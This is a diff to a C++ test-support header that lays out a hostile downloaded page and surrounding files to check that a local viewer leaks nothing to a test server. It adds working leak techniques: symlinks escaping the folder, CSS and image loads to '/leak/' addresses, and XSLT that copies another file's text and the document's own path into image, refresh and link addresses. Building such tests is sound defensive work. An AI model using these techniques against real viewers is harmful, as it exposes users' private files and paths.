@@ -1,11 +1,13 @@
 #pragma once
 // A downloaded page that tries every way it knows to send the catalog's other files and its own
 // path to the server it came from, and the catalog around it: a note, another page, a generated
-// site, a picture and XML files with a transformation. Nothing of theirs may reach the server.
+// site, a picture, XML files with a transformation and links in the catalog that lead out of it
+// or name a note as styles. Nothing of theirs may reach the server.
 #include "support/HttpServer.h"
 #include "support/TestSupport.h"
 
 #include <QDir>
+#include <QFile>
 #include <QString>
 #include <QStringList>
 #include <QUrl>
@@ -14,7 +16,7 @@ namespace hostile {
 
 // Texts of the files beside the page; none may reach the server.
 inline const QStringList kSecrets = {"NOTERTFSECRET", "NOTETXTSECRET", "OTHERPAGESECRET", "SITEINDEXSECRET",
-                                     "SITENOTESECRET", "PIXEL18.52.86"};
+                                     "SITENOTESECRET", "PIXEL18.52.86", "PRIVATESECRET"};
 
 // The page's script: everything it finds goes out by a picture address, fetch, XHR, a beacon, a
 // form, the window's name and the address of its link away.
@@ -68,6 +70,8 @@ inline QByteArray page(const testsupport::HttpServer& server, bool declared)
            "<embed id=\"emb\" src=\"Other.htm\"><iframe id=\"rtf\" src=\"Note.rtf\"></iframe>"
            "<iframe id=\"txt\" src=\"Note.txt\"></iframe><iframe id=\"site\" src=\"html/index.html\"></iframe>"
            "<iframe id=\"xml\" src=\"x.xml\"></iframe><object data=\"x.xml\"></object>\r\n"
+           "<link rel=\"stylesheet\" href=\"Linked.css\"><link rel=\"stylesheet\" href=\"Styles.css\">"
+           "<iframe src=\"Linked.htm\"></iframe><iframe src=\"Linked/page.htm\"></iframe>\r\n"
            "<form id=\"form\" method=\"post\" action=\"" + s + "/leak/form\" target=\"sink\"><input name=\"d\"></form>"
            "<iframe name=\"sink\"></iframe>\r\n"
            "</body></html>\r\n";
@@ -85,17 +89,32 @@ inline void lay(const QString& cat, const testsupport::HttpServer& server, const
     writeFile(cat + "html/n1.htm", "<html><body>SITENOTESECRET</body></html>");
     // A one-pixel picture of colour 18, 52, 86.
     writeFile(cat + "pic.gif", QByteArray("GIF89a\1\0\1\0\x80\0\0\x12\x34\x56\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;", 35));
+    // Files outside the catalog, reached through links in it (as a catalog unpacked by tar may
+    // hold): a style sheet and a page of the user's that load from the server, and a note that a
+    // link named as styles makes read as styles.
+    const QByteArray load = "{background:url(" + server.url("/leak/").toUtf8();
+    writeFile(cat + "../Private/style.css", "body" + load + "outside-css)}");
+    writeFile(cat + "../Private/page.htm", "<html><body>PRIVATESECRET<img src=\"" + server.url("/leak/outside-page").toUtf8() +
+                                                 "\"></body></html>");
+    writeFile(cat + "Styles.txt", "NOTETXTSECRET is private{}\nhtml" + load + "note-as-css?NOTETXTSECRET)}");
+    QFile::link(cat + "../Private/style.css", cat + "Linked.css");
+    QFile::link(cat + "../Private/page.htm", cat + "Linked.htm");
+    QFile::link(cat + "../Private", cat + "Linked");
+    QFile::link("Styles.txt", cat + "Styles.css");
     writeFile(serverRoot + "landing.htm",
               "<html><body>Landing<script>new Image().src='/report?ref='+encodeURIComponent(document.referrer)+"
               "'&name='+encodeURIComponent(window.name);</script></body></html>");
     // XML documents whose transformation runs without scripts: it puts the other page and the
-    // document's own path into a picture's address. The transformation comes from a file beside
-    // it, from one named as styles, or from inside the document itself.
+    // document's own path into a picture's address and into a refresh to the server. The
+    // transformation comes from a file beside it, from one named as styles, or from inside the
+    // document itself.
     const QByteArray doctype = "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"%1\"?>"
-                               "<!DOCTYPE r [<!NOTATION n SYSTEM \"n\"><!ENTITY e SYSTEM \"e.gif\" NDATA n>]>";
+                               "<!DOCTYPE r [<!NOTATION n SYSTEM \"n\"><!ENTITY e SYSTEM \"e.gif\" NDATA n>"
+                               "<!ATTLIST xsl:stylesheet id ID #IMPLIED>]>";
     auto transform = [&](const char* from) {
         return "<xsl:stylesheet id=\"s\" version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
-               "<xsl:template match=\"/\"><html><body><img src=\"" +
+               "<xsl:template match=\"/\"><html><head><meta http-equiv=\"refresh\" content=\"0;url=" +
+               server.url("/leak/refresh?d=").toUtf8() + "{unparsed-entity-uri('e')}\"/></head><body><img src=\"" +
                server.url("/leak/xslt?from=").toUtf8() + from +
                "&amp;d={document('Other.htm')}|{unparsed-entity-uri('e')}\"/></body></html></xsl:template>"
                "</xsl:stylesheet>";
@@ -105,6 +124,12 @@ inline void lay(const QString& cat, const testsupport::HttpServer& server, const
     writeFile(cat + "y.xml", QByteArray(doctype).replace("%1", "y.css") + "<r/>");
     writeFile(cat + "y.css", transform("y"));
     writeFile(cat + "z.xml", QByteArray(doctype).replace("%1", "#s") + "<r>" + transform("z") + "</r>");
+    // One whose transformation makes only a link of its path, for the link list to read.
+    writeFile(cat + "l.xml", QByteArray(doctype).replace("%1", "#s") +
+                                 "<r><xsl:stylesheet id=\"s\" version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
+                                 "<xsl:template match=\"/\"><html><body><a href=\"" +
+                                 server.url("/leak/link?d=").toUtf8() +
+                                 "{unparsed-entity-uri('e')}\">Link</a></body></html></xsl:template></xsl:stylesheet></r>");
 }
 
 // What of the catalog reached the server: its secrets and its folder's name.
